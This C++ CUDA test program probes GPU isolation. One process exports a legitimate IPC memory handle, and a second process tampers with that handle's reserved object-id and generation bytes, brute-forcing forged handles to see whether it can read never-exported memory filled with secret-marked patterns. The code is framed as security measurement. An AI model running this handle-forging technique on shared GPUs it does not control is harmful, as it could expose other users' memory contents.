// Is memory that was never exported reachable by another user's process on the same GPU? Measures the isolation we can promise.
#include <cuda.h>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <unistd.h>
#include <vector>
static CUcontext c; static CUdevice d;
static void init() { cuInit(0); cuDeviceGet(&d, 0); cuDevicePrimaryCtxRetain(&c, d); cuCtxSetCurrent(c); }
int main(int argc, char **argv) {
  setvbuf(stdout, 0, _IOLBF, 0);
  if (!strcmp(argv[1], "owner")) { init(); CUdeviceptr pub, sec, vm; cuMemAlloc(&pub, 4 << 20); cuMemAlloc(&sec, 4 << 20); cuMemsetD32(pub, 0x11111111, 1 << 20); cuMemsetD32(sec, 0x5EC2E700, 1 << 20);
    // a VMM allocation that is not exportable (no handle type), and one that is but whose descriptor is kept
    CUmemAllocationProp p{}; p.type = CU_MEM_ALLOCATION_TYPE_PINNED; p.location.type = CU_MEM_LOCATION_TYPE_DEVICE; p.requestedHandleTypes = CU_MEM_HANDLE_TYPE_POSIX_FILE_DESCRIPTOR; CUmemGenericAllocationHandle h; cuMemCreate(&h, 4 << 20, &p, 0); cuMemAddressReserve(&vm, 4 << 20, 0, 0, 0); cuMemMap(vm, 4 << 20, 0, h, 0); CUmemAccessDesc a{}; a.location = p.location; a.flags = CU_MEM_ACCESS_FLAGS_PROT_READWRITE; cuMemSetAccess(vm, 4 << 20, &a, 1); cuMemsetD32(vm, 0x5EC2E7FF, 1 << 20);
    cuCtxSynchronize(); CUipcMemHandle h0; cuIpcGetMemHandle(&h0, pub); CUresult r; CUipcMemHandle hv; r = cuIpcGetMemHandle(&hv, vm); printf("owner pid %d; GetMemHandle on VMM memory -> %d\n", getpid(), r);
    FILE *f = fopen(getenv("FORGE_FILE"), "wb"); fwrite(&h0, sizeof h0, 1, f); fclose(f); sleep(30); return 0; }
  init(); CUipcMemHandle h0; FILE *f = fopen(getenv("FORGE_FILE"), "rb"); fread(&h0, sizeof h0, 1, f); fclose(f);
  unsigned obj; memcpy(&obj, h0.reserved + 52, 4); unsigned gen; memcpy(&gen, h0.reserved + 40, 4); int tries = 0, opened = 0, sec = 0, vmm = 0;
  for (int g = 0; g <= 2; g++) for (unsigned o = 1; o < 64; o++) { CUipcMemHandle x = h0; unsigned no = obj + o, ng = gen + g; memcpy(x.reserved + 52, &no, 4); memcpy(x.reserved + 40, &ng, 4); CUdeviceptr p; tries++; CUresult r = cuIpcOpenMemHandle(&p, x, 1); if (!r) { opened++; unsigned v = 0; cuMemcpyDtoH(&v, p, 4); if (v == 0x5EC2E700) sec++; if (v == 0x5EC2E7FF) vmm++; cuIpcCloseMemHandle(p); } }
  printf("tries %d opened %d never-exported cuMemAlloc memory reached %d, kept VMM memory reached %d\n", tries, opened, sec, vmm); return 0; }
